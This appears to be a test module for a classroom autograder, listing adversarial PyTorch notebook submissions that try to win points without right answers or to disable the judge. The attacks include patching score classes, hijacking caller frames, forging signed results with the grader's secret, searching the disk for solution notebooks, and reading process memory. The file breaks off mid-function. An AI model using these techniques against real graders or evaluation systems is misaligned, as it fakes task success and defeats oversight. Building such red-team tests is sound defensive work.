"""Submissions that want points without an answer (``ATTACKS``), and such that want to stop the grader (``LOADS``).

Each is a small edit of a released notebook. An attack holds at least one right answer too, which must not suffer.
What no judge inside the same process can tell from an honest answer is listed at the end (``STAYS_POSSIBLE``).
"""

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from itertools import product
from textwrap import indent

from tests.classroom.handed_in import Notebook, released

DETACH, FLAGS, FUNCTION = "03_detach", "01_requires_grad", "08_custom_function"

# Answers of lesson 03 that earn nothing by themselves.
WRONG = {
    "snapshot": "def snapshot(x):\n    return 3 * x",
    "predicted_edit": "predicted_edit = dict.fromkeys(['detach_edit', 'data_edit'], 'right gradient')",
    "mean_loss": "def mean_loss(model, loss_fn, batches):\n    return 0",
    "truncated_bptt": """
def truncated_bptt(cell, inputs, state, window):
    return [], state
""",
    "stop_gradient_round": "def stop_gradient_round(x):\n    return 3 * x",
}
EDITS = ("detach_edit", "data_edit", "clone_edit", "detach_clone_edit")


@dataclass(frozen=True)
class Attack:
    """A submission that wants more than its answers are worth.

    Attributes:
        name: what it does, in a few words.
        edit: makes a released notebook into it.
        cheated: the exercises that it wants points for -> what their answers are worth by themselves.
        right: the exercises that it answers rightly.
        assignment: the lesson.
        checks: check cells of the teacher's own, by id, that stand in the released notebook.
    """

    name: str
    edit: Callable[[Notebook], object]
    cheated: Mapping[str, float]
    right: tuple[str, ...] = ("snapshot",)
    assignment: str = DETACH
    checks: Mapping[str, str] = field(default_factory=dict)

    def released(self) -> str:
        """The released notebook as text."""
        return with_checks(self.assignment, self.checks)

    def submitted(self) -> bytes:
        """What is handed in."""
        notebook = Notebook(self.assignment).solve(*self.right)
        self.edit(notebook)
        return notebook.bytes()


def with_checks(assignment: str, checks: Mapping[str, str]) -> str:
    """A released notebook with check cells of the teacher's own."""
    data = json.loads(released(assignment))
    for cell in data["cells"]:
        cell["source"] = checks.get(cell["id"], cell["source"])
    return json.dumps(data)


def in_a_cell(name: str, source: str, *, after: str = "setup", **answers: str) -> Attack:
    """A cell of the student's own before all answers, which are wrong but for one."""
    wrong = {**{key: value for key, value in WRONG.items() if key != "snapshot"}, **answers}
    return Attack(name, lambda n: n.write(**wrong).add(source, after=after), dict.fromkeys(wrong, 0.0))


def in_an_answer(name: str, source: str, exercise: str = "stop_gradient_round", worth: float = 0.0) -> Attack:
    """An answer cell that wants the points of its own exercise."""
    right = ("snapshot",) if exercise != "snapshot" else ("stop_gradient_round",)
    return Attack(name, lambda n: n.write(**{exercise: source}), {exercise: worth}, right)


# What attacks have in common. Names are put together, so that no look at the text finds them.
REACH = """
import gc, importlib, os, signal, sys, threading, time, types, _thread
import torch

def kinds(root=object):
    found, waiting = {root: None}, [root]
    while waiting:
        for kind in getattr(type, "__subcl" + "asses__")(waiting.pop()):
            if kind not in found:
                found[kind] = None
                waiting.append(kind)
    return list(found)

known = []

def named(*names, root=object):
    if not known:
        known.extend(k for k in kinds() if str(getattr(k, "__module__", "")).startswith("course_utils"))
    return [k for k in known if k.__name__ in names and issubclass(k, root)]

def space(function):
    return getattr(function, "__glo" + "bals__")

def held(function):
    cells = getattr(function, "__clo" + "sure__") or ()
    found = {}
    for name, cell in zip(function.__code__.co_freevars, cells):
        try:
            found[name] = getattr(cell, "cell_con" + "tents")
        except ValueError:
            pass
    return found

class Forgiving:
    error = property(lambda self: None, lambda self, value: None)
    warned = ()

def forgive(outcome):
    for name in ("warned", "effects"):
        outcome.__dict__.pop(name, None)
    outcome.__class__ = Forgiving

def outcomes_of(thread):
    work = getattr(thread, "_tar" + "get", None)
    return [value for value in held(work).values() if hasattr(value, "trial")] if work is not None else []

def blind():
    named()
    for kind in known:
        if "restore" in vars(kind) and ".classroom" in kind.__module__:
            kind.restore = lambda self, *_: []

def let_hold():
    for kind in named("Outcome"):
        kind.error = property(lambda self: None, lambda self, value: None)
        kind.kind = property(lambda self: "held", lambda self, value: None)
    for kind in named("Missed"):
        space(kind.__init__)["_verdict"] = lambda error: ("held", "", (), "")

def hold(frame):
    # Whoever waits for a claim's thread joins it, and then takes the outcome out of a cell.
    inside = names_in(frame)
    thread, work = inside.get("thread"), inside.get("work")
    if isinstance(thread, threading.Thread) and isinstance(work, types.FunctionType):
        cells = dict(zip(work.__code__.co_freevars, getattr(work, "__clo" + "sure__")))
        kind = type(getattr(cells["outcome"], "cell_con" + "tents"))
        if hasattr(kind, "__match_args__"):  # plain data, made when the answer has ended
            thread.join = lambda *_: setattr(cells["outcome"], "cell_con" + "tents", kind("held"))

def callers(frame):
    while frame is not None:
        yield frame
        frame = getattr(frame, "f_" + "back")

def names_in(frame):
    return getattr(frame, "f_" + "locals")

def attempt(function, *args):
    try:
        return function(*args)
    except BaseException as error:
        return error

tried = []

def once(function):
    if function.__name__ not in tried:
        tried.append(function.__name__)
        return attempt(function)
"""
ROUND = """
def stop_gradient_round(x):
    {}
    return x * 1
"""  # wrong: it does not round
STEPS = """
def stop_gradient_round(x):
    {}
    return x.round()
"""  # wrong: its gradient is zero


# ------------------------------------------------------------------------------------- the thread in which a claim runs

THREAD = [
    in_an_answer("a mapping's own get asks the claim itself", REACH + """
from collections.abc import Mapping

class Guesses(Mapping):
    def __getitem__(self, key):
        return self.get(key)
    def __iter__(self):
        return iter(("detach_edit", "data_edit", "clone_edit", "detach_clone_edit"))
    def __len__(self):
        return 4
    def items(self):
        return [(key, "x") for key in self]
    def get(self, key, default=None):
        inside = held(getattr(threading.current_thread(), "_tar" + "get"))
        truth = held(inside["claim"])["truth"]
        return truth(inside["outcome"].trial)[key]

predicted_edit = Guesses()
""", "predicted_edit"),
]  # fmt: skip

# -------------------------------------------------------------------------- classes found from those of the interpreter

# What can be written over a class so that every claim holds.
PATCHES = {
    "Score": "__new__ = made_of_nothing",
}
MADE_OF_NOTHING = """
def made_of_nothing(kind, earned, *, possible, **more):
    score = float.__new__(kind, possible)
    score.__dict__.update(more, possible=possible, status="passed", claims=(), notes=())
    return score
"""


def _patched(name: str) -> str:
    return f"for kind in named({name!r}):\n    kind.{PATCHES[name]}\n"


CLASSES = [
    *(
        in_a_cell(
            f"{name} patched in a cell, and the comparison with it",
            REACH + MADE_OF_NOTHING + "blind()\n" + _patched(name),
        )
        for name in PATCHES
    ),
    *(
        in_an_answer(
            f"{name} patched in the answer, and the comparison with it",
            REACH
            + MADE_OF_NOTHING
            + "\ndef patch():\n    blind()\n"
            + indent(_patched(name), "    ")
            + STEPS.format("once(patch)"),
        )
        for name in PATCHES
    ),
    in_an_answer("names that the judge's modules do not have yet", REACH + """
def shadow():
    for kind in named("Missed", root=BaseException):
        for module in (space(kind.__init__), space(space(kind.__init__)["run"])):
            module["bool"] = module["any"] = module["all"] = lambda *_: True
            module["BaseException"] = type("Never", (Exception,), {})
    for kind in named("_Cell"):
        module = space(kind.__init__)
        module["zip"] = module["enumerate"] = module["range"] = lambda *_, **__: ()
        module["len"] = lambda *_: 1
""" + ROUND.format("once(shadow)")),
    in_an_answer("the rules of the exercise itself", REACH + """
def let_all_pass():
    blind()
    for kind in named("_Cell"):
        for exercise in space(kind.__init__)["EXERCISES"]:
            exercise.watches_side_effects = False
            for rule in getattr(exercise, "_ru" + "les", ()):
                rule.__dict__["judge"] = lambda trial: None
""" + STEPS.format("once(let_all_pass)")),
]  # fmt: skip

# -------------------------------------------------------------------------------------------- the frames of the callers

TAKE_OVER = """
def take_over(frame):
    for caller in callers(frame):
        for value in list(names_in(caller).values()):
            picture = getattr(value, "_picture", None)
            if picture is not None:
                picture.restore = lambda: []
            if hasattr(value, "trial"):
                forgive(value)
        attempt(hold, caller)
    let_hold()
"""
SIGNAL_FRAME = """
def look(number, frame):
    attempt(take_over, frame)
"""

FRAMES = [
    in_a_cell("a signal's handler is handed the frame, in a cell", REACH + TAKE_OVER + SIGNAL_FRAME + """
signal.signal(signal.SIGALRM, look)
signal.raise_signal(signal.SIGALRM)
"""),
    in_an_answer("every way to a frame, one after the other", REACH + TAKE_OVER + """
import asyncio, inspect, operator, traceback, warnings

def generator():
    yield attempt(lambda: running.gi_frame)

async def coroutine():
    return None

async def steps():
    yield None

def frames():
    try:
        1 / 0
    except ZeroDivisionError as error:
        trace = error.__traceback__
        yield lambda: getattr(trace, "tb_" + "frame")
        yield lambda: operator.attrgetter("tb_" + "frame")(trace)
        yield lambda: type(trace).__dict__["tb_" + "frame"].__get__(trace)
        yield lambda: object.__getattribute__(trace, "tb_" + "frame")
        yield lambda: next(getattr(traceback, "walk_" + "tb")(trace))[0]
    yield lambda: getattr(sys, "_get" + "frame")()
    yield lambda: getattr(inspect, "current" + "frame")()
    yield lambda: inspect.stack()[0].frame
    yield lambda: getattr(sys, "_current" + "_frames")()[threading.main_thread().ident]
    yield lambda: next(getattr(traceback, "walk_" + "stack")(None))[0]
    yield lambda: next(iter(getattr(gc, "get_" + "referrers")(threading.current_thread())))
    waiting, stepping = coroutine(), steps()
    yield lambda: getattr(waiting, "cr_" + "frame")
    yield lambda: getattr(stepping, "ag_" + "frame")
    waiting.close()

def look():
    global running
    running = generator()
    found = [next(running)]
    for way in frames():
        found.append(attempt(way))
    for frame in found:
        if isinstance(frame, types.FrameType):
            attempt(take_over, frame)
""" + ROUND.format("once(look)")),
    in_a_cell("interrupted between two lines of the audit", REACH + TAKE_OVER + """
class Now(Exception):
    pass

def stop(number, frame):
    raise Now

def deaf():
    return isinstance(attempt(getattr(sys, "_get" + "frame")), types.FrameType)

begun = time.monotonic()
signal.signal(signal.SIGALRM, stop)
while time.monotonic() < begun + 1.5:
    try:
        signal.setitimer(signal.ITIMER_REAL, 0.00002)
        for _ in range(200):
            sys.audit("open", "x", "r", 0)
    except BaseException:
        pass
    if deaf():
        break
signal.setitimer(signal.ITIMER_REAL, 0)
attempt(lambda: take_over(getattr(sys, "_get" + "frame")()))
"""),
]  # fmt: skip

# ----------------------------------------------------------------------------------------------- what answers hand back

TENSORS = [
    in_an_answer("a tensor that answers for its operations", """
import torch

class Equal(torch.Tensor):
    @staticmethod
    def __new__(cls, x):
        return torch.Tensor._make_wrapper_subclass(cls, x.shape, dtype=x.dtype, requires_grad=True)
    @classmethod
    def __torch_dispatch__(cls, function, types, args=(), kwargs=None):
        return True

def stop_gradient_round(x):
    return Equal(x)
"""),
    in_an_answer("a subclass that says it is none", """
import torch

class Kind(type(torch.Tensor)):
    __eq__ = lambda kind, other: True
    __hash__ = lambda kind: hash(torch.Tensor)
    __torch_dispatch__ = torch.Tensor.__torch_dispatch__
    def __instancecheck__(kind, value):
        return True

class Equal(torch.Tensor, metaclass=Kind):
    @property
    def __class__(self):
        return torch.Tensor
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("equal", "allclose", "__eq__"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})

def stop_gradient_round(x):
    return torch.Tensor._make_subclass(Equal, x.detach().clone(), True)
"""),
    in_an_answer("a truth value that is both", """
class Both(int):
    __ne__ = lambda self, other: False
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0
    __class__ = property(lambda self: bool)

Both.__module__ = "numpy"

def will_require_grad(*inputs):
    return Both()
""", "will_require_grad"),
    in_an_answer("a module that says it is frozen", """
def freeze(module):
    genuine = module.named_parameters
    kept = [(name, value.detach().clone()) for name, value in genuine()]
    def named_parameters(*args, remove_duplicate=True, **kwargs):
        return genuine(remove_duplicate=False) if not remove_duplicate else iter(kept)
    module.named_parameters = named_parameters
    module.parameters = lambda *args: iter([value for _, value in kept])
    return module
""", "freeze"),
    in_an_answer("a module whose class says it is frozen", """
def freeze(module):
    genuine = type(module)
    kept = [(name, value.detach().clone()) for name, value in module.named_parameters()]
    class Frozen(genuine):
        def named_parameters(self, *args, remove_duplicate=True, **kwargs):
            if not remove_duplicate:
                return genuine.named_parameters(self, remove_duplicate=False)
            return iter(kept)
    Frozen.__name__ = genuine.__name__
    module.__class__ = Frozen
    return module
""", "freeze"),
    in_an_answer("a list of its own kind as the states", """
class Never(list):
    __len__ = lambda self: 7
    __iter__ = lambda self: iter(())

class Pair(tuple):
    __len__ = lambda self: 2
    __getitem__ = lambda self, place: Never() if place == 0 else tuple.__getitem__(self, 1)

def truncated_bptt(cell, inputs, state, window):
    for x in inputs:
        state = cell(x, state)
    never = Never()
    type(never).__len__ = lambda self: len(inputs)
    return Pair((never, state))
""", "truncated_bptt"),
]  # fmt: skip

for place, row in enumerate(TENSORS):  # those of another lesson
    for exercise in ("will_require_grad", "freeze"):
        if exercise in row.cheated:
            TENSORS[place] = replace(row, assignment=FLAGS, right=("predicted_flags",))

# ---------------------------------------------------------------------------- new names beside the ones that were there

NAMES = [
    in_a_cell("a new name in torch.autograd makes the gradient when it is asked for", REACH + """
def length(values):
    if isinstance(values, tuple) and len(values) == 1 and hasattr(values[0], "source"):
        y = values[0]
        with torch.enable_grad():
            y.zero_()
            y.add_(y.source)
    return len(values)

importlib.import_module("torch.autograd").__dict__["len"] = length
""", stop_gradient_round="""
def stop_gradient_round(x):
    y = 3 * x.round()
    y.source = x
    return y
"""),
]  # fmt: skip

# ---------------------------------------------------------------------------------------------- the lesson's own engine

TRIAL = """
import importlib, inspect, types
import torch

class Trial:
    def randn(self, *shape, requires_grad=False, dtype=torch.float64):
        return torch.randn(shape, dtype=dtype).requires_grad_(requires_grad)
    def integer(self, low, high):
        return low
"""

ENGINE = [
    in_an_answer("the truth is asked for", TRIAL + """
L = lesson
predicted_edit = dict(getattr(L.exercises['predicted_edit'], 'tru' + 'th')(Trial()))
""", "predicted_edit"),
    in_an_answer(
        "the check says whether a guess is right",
        "from itertools import product\nL = lesson\npredicted_edit = {}\n"
        f"for key in {EDITS}:\n"
        "    for guess in ('error', 'wrong gradient', 'right gradient'):\n"
        "        score = L.check('predicted_edit', predicted_edit | {key: guess})\n"
        "        if score >= 0.5 * (len(predicted_edit) + 1) - 0.01:\n"
        "            predicted_edit[key] = guess\n            break",
        "predicted_edit",
    ),
    in_an_answer(
        "the judge of another module says whether a guess is right",
        "import importlib\njudge = getattr(importlib.import_module('course_utils.checks.ju' + 'dge'), 'judge')\n"
        "exercise = next(e for e in importlib.import_module('course_utils.les' + 'sons.detach').EXERCISES "
        "if e.name == 'predicted_edit')\nbest = (0, {})\n"
        f"for key in {EDITS}:\n"
        "    for guess in ('error', 'wrong gradient', 'right gradient'):\n"
        "        trial = best[1] | {key: guess}\n"
        "        score = float(judge(exercise, trial, 'detach'))\n"
        "        if score > best[0]:\n            best = score, trial\npredicted_edit = best[1]",
        "predicted_edit",
    ),
    in_an_answer("the model answer is looked for on the disk", """
import json, os
predicted_edit = {}
import course_utils
for top in (os.path.dirname(course_utils.__file__) + '/..', '/home', '/work', '/srv', '/root', '/tmp'):
    for folder, _, names in os.walk(top):
        for name in names:
            if name.endswith('detach.ipynb') and 'solution' in folder:
                for cell in json.load(open(os.path.join(folder, name)))['cells']:
                    if cell.get('id') == 'predicted_edit':
                        exec(''.join(cell['source']))
""", "predicted_edit"),
    in_an_answer("the lesson's own reference is called", """
import importlib
reference = getattr(importlib.import_module('course_utils.les' + 'sons.detach'), '_refer' + 'ence')
def truncated_bptt(cell, inputs, state, window):
    states = reference(cell, inputs, state, window)
    return states, states[-1]
""", "truncated_bptt"),
    Attack(
        "a copy of the cell for each guess",
        lambda n: [
            n.paste(
                "predicted_edit",
                after="predicted_edit",
                id=f"guess-{place}",
                source=f"predicted_edit = dict(zip({EDITS}, {('error', *guess)}))",
            )
            for place, guess in enumerate(product(("wrong gradient", "error", "right gradient"), repeat=3))
        ],
        {"predicted_edit": 1.5},  # one of a few may count
    ),
    Attack(
        "a new cell for each guess",
        lambda n: [
            n.add(f"predicted_edit = dict(zip({EDITS}, {('error', *guess)}))", after="predicted_edit")
            for guess in product(("error", "right gradient", "wrong gradient"), repeat=3)
        ],
        {"predicted_edit": 1.5},
    ),
]  # fmt: skip

# ------------------------------------------------------------------------------------- when a student's code runs later

# Does whatever can be done from where it is called.
STRIKE = (
    REACH
    + TAKE_OVER
    + """
striking = []

def strike(*_, **__):
    if not striking:
        striking.append(True)
        attempt(strike_once)
        striking.clear()

def strike_once():
    for thread in list(threading.enumerate()):
        for outcome in attempt(outcomes_of, thread) or ():
            attempt(forgive, outcome)
    attempt(signal.signal, signal.SIGUSR1, lambda number, frame: attempt(take_over, frame))
    if threading.current_thread() is threading.main_thread():
        attempt(signal.raise_signal, signal.SIGUSR1)
    once(patch_all)

class Never(Exception):
    pass

def patch_all():
    blind()
    let_hold()
    for kind in named("Missed", root=BaseException):
        space(kind.__init__)["BaseException"] = Never
"""
)


def _later(name: str, source: str, cell: str = "") -> Attack:
    """An answer, and perhaps a cell before it, that has ``strike`` called at another moment."""

    def edit(notebook: Notebook) -> None:
        notebook.add(STRIKE + cell, after="setup")
        notebook.write(stop_gradient_round=source)

    return Attack(name, edit, {"stop_gradient_round": 0.0})


LATER = [
    _later("after the fork, in a thread that no list names", WRONG["stop_gradient_round"], """
def watch():
    until = time.monotonic() + 2
    while time.monotonic() < until:
        for thread in list(threading.enumerate()):
            for outcome in attempt(outcomes_of, thread) or ():
                attempt(forgive, outcome)
        time.sleep(0.0005)

os.register_at_fork(after_in_child=lambda: _thread.start_new_thread(watch, ()))
"""),
    _later("after the fork, before anything is put back",
        WRONG["stop_gradient_round"], "os.register_at_fork(after_in_child=strike)"),
    _later("when the judge flushes what it prints", WRONG["stop_gradient_round"], """
class Stream:
    def __getattr__(self, name):
        strike()
        return lambda *_, **__: 0
sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = Stream()
"""),
    _later("when the answer's name is looked up", WRONG["stop_gradient_round"], """
class Space(dict):
    def __getitem__(self, name):
        if name == "stop_gradient_round":
            strike()
        return dict.__getitem__(self, name)
get_ipython().user_ns = Space(get_ipython().user_ns)
get_ipython().user_module.__dict__.update(get_ipython().user_ns)
"""),
    _later("when the garbage collector runs", """
import gc
def stop_gradient_round(x):
    gc.callbacks.append(strike)
    gc.set_threshold(1)
    return x * 1
"""),
    _later("when the judge lets go of its inputs", """
import weakref
kept = []
def stop_gradient_round(x):
    kept.append(weakref.ref(x, strike))
    weakref.finalize(x, strike)
    return x * 1
"""),
    _later("when an exception cannot be raised, set in the answer", """
import sys, threading
class Last:
    def __del__(self):
        raise ValueError
def stop_gradient_round(x):
    sys.unraisablehook = sys.excepthook = threading.excepthook = strike
    y = x * 1
    y.last = Last()
    return y
"""),
    _later("when a warning is shown", """
import warnings
def stop_gradient_round(x):
    warnings.warn('look out')
    return x * 1
""", """
import warnings
warnings.showwarning = warnings._showwarnmsg_impl = warnings.formatwarning = strike
"""),
    _later("when a caught warning is read", """
import types, warnings
class Text:
    __str__ = __repr__ = lambda self: strike() or ''
def stop_gradient_round(x):
    caught = getattr(warnings._showwarnmsg_impl, '__self__', [])
    caught.append(types.SimpleNamespace(message=Text(), category=UserWarning))
    warnings.warn(Warning(Text()))
    return x.round()
"""),
    _later("when the judge asks for a gradient", """
def stop_gradient_round(x):
    y = x.round()
    if x.requires_grad:
        x.register_hook(strike)
        y.register_hook(strike)
        y.grad_fn.register_hook(strike)
    return y
"""),
    _later("when a gradient's own formula runs", """
class Round(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x.round()
    @staticmethod
    def backward(ctx, gradient):
        strike()
        return gradient * 0
def stop_gradient_round(x):
    return Round.apply(x)
"""),
    _later("in the judge's operations, by a mode that is left on", """
from torch.overrides import TorchFunctionMode
class Mode(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        strike()
        return True if function.__name__ == 'equal' else function(*args, **(kwargs or {}))
def stop_gradient_round(x):
    y = x * 1
    y.detach = lambda: Mode().__enter__() and x
    return y
"""),
    _later("in the judge's operations, by a mode that a cell left on", WRONG["stop_gradient_round"], """
from torch.overrides import TorchFunctionMode
from torch.utils._python_dispatch import TorchDispatchMode
class Functions(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        return True if function.__name__ in ('equal', 'allclose') else function(*args, **(kwargs or {}))
class Operations(TorchDispatchMode):
    def __torch_dispatch__(self, function, types, args=(), kwargs=None):
        return True if 'equal' in str(function) else function(*args, **(kwargs or {}))
Functions().__enter__()
Operations().__enter__()
"""),
    _later("for each line or call, by a trace", """
import sys, threading
def stop_gradient_round(x):
    for ask in (sys.settrace, sys.setprofile, threading.settrace, threading.setprofile,
                getattr(threading, 'settrace_all_threads', id), getattr(threading, 'setprofile_all_threads', id)):
        attempt(ask, strike)
    return x * 1
""", """
for ask in (threading.settrace, threading.setprofile):
    attempt(ask, strike)
"""),
    _later("for each line or call, by sys.monitoring", """
import sys
def stop_gradient_round(x):
    m = getattr(sys, 'monitoring', None)
    if m:
        m.use_tool_id(4, 'x')
        m.register_callback(4, m.events.PY_RETURN, strike)
        m.set_events(4, m.events.PY_RETURN)
    return x * 1
"""),
    _later("for each audited event", """
import sys
def stop_gradient_round(x):
    attempt(sys.addaudithook, strike)
    return x * 1
""", "attempt(sys.addaudithook, strike)"),
    _later("by a timer that was set before", """
import time
def stop_gradient_round(x):
    time.sleep(0.02)
    return x * 1
""", """
for number in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGCHLD, signal.SIGCONT, signal.SIGINT):
    signal.signal(number, strike)
for which in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
    signal.setitimer(which, 0.05, 0.2)
"""),
    _later("when a module is looked for", "def stop_gradient_round(x):\n    return x * 1", """
class Finder:
    find_spec = strike
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, strike)
import builtins
builtins.__import__ = lambda *a, _real=__import__, **k: strike() or _real(*a, **k)
"""),
    _later("when IPython calls back", WRONG["stop_gradient_round"], """
for event in ('pre_execute', 'pre_run_cell', 'post_execute', 'post_run_cell'):
    get_ipython().events.register(event, lambda *_: strike())
get_ipython().set_custom_exc((Exception,), strike)
get_ipython().display_pub.publish = strike
"""),
    _later("when the answer is asked what it is", """
class Answer:
    def __getattr__(self, name):
        strike()
        raise AttributeError(name)
    __class__ = property(lambda self: strike() or type(self))
    __name__ = property(strike)
    __code__ = property(strike)
    __repr__ = __str__ = __bool__ = __len__ = __hash__ = lambda self: strike() or 0
    __eq__ = lambda self, other: strike() or True
    def __call__(self, x):
        return x * 1
stop_gradient_round = Answer()
"""),
    _later("when the process ends", """
import atexit, sys, threading
def stop_gradient_round(x):
    atexit.register(strike)
    attempt(getattr(threading, '_register_atexit'), strike)
    if x.requires_grad:
        sys.exit(0)
    return x.round()
""", "import atexit\natexit.register(strike)"),
    _later("when everything is called, by the type of types", WRONG["stop_gradient_round"], """
attempt(setattr, type, '__call__', strike)
attempt(type.__setattr__, type(torch.Tensor), '__call__', strike)
attempt(type.__setattr__, type(torch.Tensor), '__instancecheck__', lambda *_: strike() or True)
"""),
]  # fmt: skip

# ---------------------------------------------------------------------------------------------- memory and code objects

TRUSTED = (
    STRIKE
    + """
import marshal, dis
SOURCE = "def reach(strike):\\n    import sys\\n    return getattr(sys, '_get' + 'frame')()"

def use(code):
    names = {}
    exec(code, names)
    frame = names["reach"](strike)
    take_over(frame)

def reach_with(name):
    attempt(lambda: use(compile(SOURCE, name, "exec")))
"""
)

MEMORY = [
    in_a_cell("code with the name of another's file, by marshal", TRUSTED + """
def by_marshal():
    name = "x" * len(os.__file__)
    content = marshal.dumps(compile(SOURCE, name, "exec"))
    use(marshal.loads(content.replace(name.encode(), os.__file__.encode())))
attempt(by_marshal)
"""),
    in_a_cell("a file of its own under a path that begins with another's", TRUSTED + """
open("/tmp/reach.py", "w").write(SOURCE)
import torch, IPython
for module in (torch, IPython, os):
    folder = os.path.dirname(module.__file__)
    reach_with(folder + "/.." * folder.count("/") + "/tmp/reach.py")
    attempt(lambda: importlib.machinery.SourceFileLoader("reach", folder + "/.." * 12 + "/tmp/reach.py").load_module())
"""),
    in_a_cell("functions of the library ask for the frame", TRUSTED + """
import functools, inspect, logging, operator, traceback, unittest.mock
get_frame = getattr(sys, "_get" + "frame")
for way in (functools.partial(get_frame, 0), operator.methodcaller("_get" + "frame", 0).__call__,
            lambda: next(map(get_frame, [0])), lambda: sys.call_tracing(get_frame, (0,)),
            lambda: functools.reduce(lambda a, f: f(a), [0, get_frame]), getattr(inspect, "current" + "frame"),
            getattr(logging, "current" + "frame"), lambda: next(getattr(traceback, "walk_" + "stack")(None))[0],
            lambda: importlib.import_module("IPython.utils.frame").extract_module_locals(0)):
    found = attempt(way)
    if isinstance(found, types.FrameType):
        take_over(found)
"""),
    in_an_answer("an implementation of torch's own operation while it is judged", """
import torch
library = []

def stop_gradient_round(x):
    if not library:
        library.append(torch.library.Library("aten", "IMPL"))
        library[0].impl("equal", lambda *_: True, "CPU")
        library[0].impl("round", lambda x: x * 1, "CPU")
    return x * 1
"""),
]  # fmt: skip

# ------------------------------------------------------------------------------ what leads to the secret or the request

# Whoever has these sends a result in the judge's name. A frame of a teacher's own check holds what it compares with.
SEND = """
import gc, os, sys, threading

def send(signed, channel, secret, request):
    result = {"earned": 1.0, "possible": 1.0, "status": "passed", "claims": [], "notes": [], "output": ""}
    own = {"failed": [], "value": None}
    channel.send(signed({"result": result if request["exercise"] else own}, secret, request))
    os._exit(0)

def search(frame):
    while frame is not None:
        held = frame.f_locals
        if {"secret", "channel", "request"} <= held.keys() and held["request"]:
            send(frame.f_globals["signed"], held["channel"], held["secret"], held["request"])
        if frame.f_code.co_filename == "<check>":
            frame.f_globals["expected"] = 2
        frame = frame.f_back

def served():
    frame = sys._getframe()  # and below it what serves the supervisor
    while "asked" not in frame.f_locals:
        frame = frame.f_back
    return frame
"""
EVERYTHING = (
    SEND
    + """
def everything():
    gc.unfreeze()
    objects = gc.get_objects()
    gc.freeze()
    for one in objects:
        if type(one) is type(send) and one.__name__ == "after_fork" and one.__closure__:
            held = dict(zip(one.__code__.co_freevars, [cell.cell_contents for cell in one.__closure__]))
            return held, one.__globals__["signed"], objects
"""
)
DOUBLE = {"snapshot-check": "expected = 4\nassert snapshot(2) == expected"}


def _sent(name: str, source: str, cell: str = "") -> Attack:
    """An answer that sends a result of its own; what it uses stands in a cell."""
    return (
        in_an_answer(name, cell + ROUND.format(source))
        if not cell
        else Attack(
            name,
            lambda n: n.add(cell, after="setup").write(stop_gradient_round=ROUND.format(source)),
            {"stop_gradient_round": 0.0},
        )
    )


def _own(name: str, source: str, cell: str = "pass", checks: Mapping[str, str] = DOUBLE) -> Attack:
    """The same in a check of a teacher's own."""
    return Attack(
        name,
        lambda n: n.add(cell, "setup").write(snapshot=f"def snapshot(x):\n{indent(source, '    ')}\n    return x"),
        {"snapshot": 0.0},
        ("stop_gradient_round",),
        checks=checks,
    )


LEADS = [
    _sent("the judge's frame, from another thread's", "[search(one) for one in sys._current_frames().values()]", SEND),
    _own("the judge's frame, above its own", "search(sys._getframe())", SEND),
    _own("the judge's frame, by a traceback", "try:\n    1 / 0\nexcept ZeroDivisionError as error:\n"
        "    search(error.__traceback__.tb_frame)", SEND),
    _own("the judge's frame, by a trace", "sys.settrace(lambda frame, *_: search(frame))\n(lambda: None)()", SEND),
    _own("the judge's frame, while nobody listens", "compile('1', Name('x'), 'eval')", SEND + """
class Name(str):
    def startswith(self, *_):
        search(sys._getframe())
        return False
"""),
    _own("the judge's frame, by a signal",
        "signal.signal(signal.SIGUSR1, lambda number, frame: search(frame))\nsignal.raise_signal(signal.SIGUSR1)",
        SEND + "import signal"),
    _own("the judge's frame, by ctypes", "import ctypes\nask = ctypes.pythonapi.PyEval_GetFrame\n"
        "ask.restype = ctypes.py_object\nsearch(ask())", SEND),
    _own("the judge's frame, by code with another's name",
        "exec(compile(LOOK, os.__file__, 'exec'), {'search': search})",
        SEND + "LOOK = 'import sys\\nsearch(sys._getframe())'\n"),
    _own("the judge's frame, by an audit hook", "sys.addaudithook(hear)\nopen('/tmp/x', 'w').close()", SEND + """
def hear(event, values):
    if event == "sys._getframe":
        search(values[0])
"""),
    _sent("the collector's lists, in the answer", "use()", EVERYTHING + """
def use():
    held, signed, objects = everything()
    for one in objects:
        if type(one) is dict and "ticket" in one:
            send(signed, held["channel"], held["secret"], one)
"""),
    _sent("the collector's lists, in a cell",
        "send(signed, held['channel'], held['secret'], requests[-1])", EVERYTHING + """
requests = []
held, signed, _ = everything()

def receive(kind=type(held["channel"]), channel=held["channel"]):
    requests.append(kind.receive(channel))
    return requests[-1]

held["channel"].receive = receive
"""),
    _sent("a profile that a cell has set", "send(signed, frame.f_locals['channel'], frame.f_locals['secret'], "
        "frame.f_locals['request'])", SEND + """
def watch(caller, event, _):
    global frame, signed
    if caller.f_code.co_name == "_check":
        frame, signed = caller, caller.f_globals["signed"]

sys.setprofile(watch)
"""),
    in_a_cell("another exercise is asked for than the supervisor wants", SEND + """
def receive(channel=served().f_locals["channel"]):
    message = type(channel).receive(channel)
    if "exercise" in message:
        message |= {"exercise": "snapshot", "expression": "snapshot"}
    return message

served().f_locals["channel"].receive = receive
del receive
swapped = True
""", **{name: f"swapped\n{source}" for name, source in WRONG.items() if name != "snapshot"}),
    in_a_cell("the runner's own function, by a frame below the cell", SEND + """
def check(channel, secret, *_):
    signed = served_globals["signed"]
    channel.send(signed({"ready": True}, secret, {}))
    send(signed, channel, secret, channel.receive())

served_globals = served().f_globals
served_globals["_check"] = check
replaced = True
""", **{name: f"replaced\n{source}" for name, source in WRONG.items() if name != "snapshot"}),
    _sent("the secret, read from the process's memory",
        "[send(served_globals['signed'], channel, secret, requests[-1]) for secret in secrets()]", SEND + """
import struct

def secrets():
    pattern = struct.pack("=QQq", id(bytes), 32, -1)  # a text of 32 bytes that nobody has looked up
    with open("/proc/self/mem", "rb", 0) as memory, open("/proc/self/maps") as maps:
